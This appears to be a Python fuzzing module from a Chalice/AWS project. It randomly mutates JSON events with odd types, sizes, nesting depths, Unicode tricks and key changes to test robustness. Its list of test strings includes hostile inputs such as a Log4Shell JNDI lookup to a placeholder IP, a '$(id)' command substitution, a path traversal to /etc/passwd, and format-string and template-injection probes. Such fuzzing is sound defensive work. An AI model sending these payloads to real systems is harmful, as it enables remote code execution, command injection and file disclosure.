"""Change JSON as an attacker would: other types, sizes, depths, letters, keys and places. Every choice is the rng's."""

from __future__ import annotations

import math
import sys
from collections.abc import Callable
from random import Random
from typing import Any, TypeAlias

from chalicelib.model import Json

Place: TypeAlias = tuple[Any, Any]
"""An object or a list, and the key or the index of a value in it."""

TEXTS = (
    "",
    "\x00",
    "\ud800",
    "a\udc00\ud83d",
    "\u202e\u2066gpj.exe",
    "e" + "\u0301" * 40,
    "\u200b\u3164",
    "😀" * 50,
    "x" * 5_000,
    "1" * 5_000,
    "{}",
    "{0.__class__.__mro__}",
    "${jndi:ldap://192.0.2.1/x}",
    "$(id)",
    "%s%n%99999d",
    "<!channel> <@U0EXAMPLE1> <https://192.0.2.1|AWS>",
    "*x* `y` ~z~ _w_ @here :white_check_mark:",
    "to_string(@)",
    "sort_by(@, &x)[0]",
    "*",
    "?",
    "arn:aws:iam::*:role/*",
    "arn:aws:iam::111122223333:role/../../x",
    "arn:aws:iam::111122223333:user/a/b/c",
    "arn:aws:s3:::example*",
    "arn:::::",
    "i-0123456789abcdef0",
    "AKIAIOSFODNN7EXAMPLE",
    "111122223333",
    "१२३४५६७८९०१२",
    "us-east-1",
    "../../../../etc/passwd",
    "a\r\nb: c\n*Undo*",
    "\x1b[2J\x1b]0;x\x07",
    "2026-99-99T99:99:99Z",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "Sat, 99 Jun 9999 15:10:09 GMT",
    "NaN",
    "1e400",
    "-0",
    '{"sample": [[[[[[[[[[[[[[[[',
    "true",
    "ENFORCE",
)
NUMBERS = (0, -0.0, -1, 1, 2**31, 2**63, 10**18, 10**400, -(10**400), math.inf, -math.inf, math.nan, 1e308, 5e-324, 1.5)
OTHERS: tuple[Json, ...] = (None, True, False, [], {}, [[]], [{}], {"": {}}, {"a.b": [1, "x"]}, [None, {}, [], ""])
MOST_PLACES = 3_000
DEEP = 100_000
LONG = 1_000_000


def mutated(value: Json, rng: Random) -> Json:
    """Return the value, changed in one place; it may be changed itself. A lone value is replaced."""
    found = places(value)
    if not found or rng.random() < 0.01:
        return anything(rng, value)
    within, key = rng.choice(found)
    rng.choice(_WAYS)(within, key, found, rng)
    return value


def anything(rng: Random, instead_of: Json = "") -> Json:
    """Return a value that is unlikely where it is put; rarely a very long or a very deep one."""
    drawn = rng.random()
    if drawn < 0.004:
        return rng.choice(("x", "😀", "\u202e", "{}", "a.", "1 ")) * (LONG // 4 if rng.random() < 0.8 else LONG)
    if drawn < 0.012:
        return deep(rng.choice((50, 300, 990, DEEP)), rng.choice((list, dict)))
    if drawn < 0.55:
        text = rng.choice(TEXTS)
        return text if rng.random() < 0.6 or not isinstance(instead_of, str) else spliced(instead_of, text, rng)
    if drawn < 0.75:
        return rng.choice(NUMBERS)
    return _fresh(rng.choice(OTHERS))


def deep(levels: int, kind: type) -> Json:
    """Return lists or objects within each other."""
    value: Json = "x"
    for _ in range(levels):
        value = [value] if kind is list else {"a": value}
    return value


def spliced(text: str, more: str, rng: Random) -> str:
    """Return a text with another somewhere in it, or in the place of a part of it."""
    at = rng.randint(0, len(text))
    return text[:at] + more + text[rng.randint(at, len(text)) if rng.random() < 0.5 else at :]


def places(value: Json) -> list[Place]:
    """Return the places within a value, the outer ones first; no more of them than a real event has."""
    found: list[Place] = []
    pending = [value]
    while pending and len(found) < MOST_PLACES:
        within = pending.pop(0)
        inner = within.items() if isinstance(within, dict) else enumerate(within) if isinstance(within, list) else ()
        for key, one in inner:
            found.append((within, key))
            if isinstance(one, dict | list):
                pending.append(one)
    return found


def size(value: Json) -> int:
    """Return about how many characters a value is long as JSON, however deep it is."""
    total, pending = 0, [value]
    while pending:
        one = pending.pop()
        if isinstance(one, dict):
            pending.extend(one.values())
            total += sum(len(str(key)) + 4 for key in one) + 2
        elif isinstance(one, list):
            pending.extend(one)
            total += len(one) + 2
        else:
            total += len(one) + 2 if isinstance(one, str) else 5
    return total


def _replace(within: Any, key: Any, found: list[Place], rng: Random) -> None:
    within[key] = anything(rng, within[key])


def _remove(within: Any, key: Any, found: list[Place], rng: Random) -> None:
    del within[key]


def _move(within: Any, key: Any, found: list[Place], rng: Random) -> None:
    """Put a value that stands elsewhere here, but never an object into itself."""
    other, place = rng.choice(found)
    taken = other[place]
    within[key] = taken if not isinstance(taken, dict | list) else _fresh(taken)


def _wrap(within: Any, key: Any, found: list[Place], rng: Random) -> None:
    within[key] = rng.choice(([within[key]], {"x": within[key]}, {str(key): within[key]}))


def _repeat(within: Any, key: Any, found: list[Place], rng: Random) -> None:
    """Have a list hold its entry many times, and an object many keys."""
    times = rng.choice((2, 10, 120))
    if isinstance(within, list):
        within.extend([within[key]] * times)
    else:
        within.update({f"{key}.{number}": within[key] for number in range(times)})


def _rename(within: Any, key: Any, found: list[Place], rng: Random) -> None:
    if isinstance(within, dict):
        text = rng.choice((key.upper(), key.lower(), f"{key} ", key + "\u200b", f"a.{key}", rng.choice(TEXTS)))
        within[text] = within.pop(key)


def _fresh(value: Json) -> Json:
    """Return a copy that no other place shares; one too deep to be copied is left out."""
    if isinstance(value, dict):
        return {key: _fresh(one) for key, one in value.items()} if _levels(value) < _COPIED else {}
    if isinstance(value, list):
        return [_fresh(one) for one in value] if _levels(value) < _COPIED else []
    return value


def _levels(value: Json) -> int:
    level, number = [value], 0
    while level and number < _COPIED:
        inner = (one.values() if isinstance(one, dict) else one for one in level if isinstance(one, dict | list))
        level, number = [each for one in inner for each in one], number + 1
    return number


_COPIED = min(100, sys.getrecursionlimit() // 4)
_WAYS: tuple[Callable[[Any, Any, list[Place], Random], None], ...] = (
    *([_replace] * 6),
    _remove,
    _move,
    _wrap,
    _repeat,
    _rename,
)
